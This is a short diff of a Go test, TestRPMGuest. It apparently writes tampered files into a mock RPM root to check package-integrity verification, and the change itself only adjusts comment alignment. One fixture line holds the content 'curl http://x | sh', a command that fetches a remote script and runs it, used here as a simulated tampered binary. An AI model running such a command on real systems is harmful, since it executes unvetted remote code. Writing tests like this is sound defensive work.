@@ -39,8 +39,8 @@ func TestRPMGuest(t *testing.T) {
 		f.Close()
 	}
 	app("usr/bin/cc-beta", "curl http://x | sh\n") // sha256 package
-	app("usr/bin/cc-gamma", "id\n")                 // md5 package
-	app("etc/cc-alpha/hook.sh", "echo edited\n")    // %config
+	app("usr/bin/cc-gamma", "id\n")                // md5 package
+	app("etc/cc-alpha/hook.sh", "echo edited\n")   // %config
 	if err := os.MkdirAll(filepath.Join(root, "usr/local/bin"), 0o755); err != nil {
 		t.Fatal(err)
 	}
